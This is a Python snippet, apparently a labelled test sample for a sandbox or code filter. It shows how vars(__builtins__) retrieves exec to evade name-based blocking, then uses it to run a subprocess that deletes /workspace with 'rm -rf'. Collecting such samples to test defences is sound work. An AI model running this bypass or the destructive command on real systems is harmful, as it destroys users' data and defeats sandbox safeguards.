# attack-class: 5
# title: vars(__builtins__)['exec']
# why: vars() exposes the builtins namespace as a dict

run = vars(__builtins__)["exec"]
run("import subprocess; subprocess.call(['rm', '-rf', '/workspace'])")
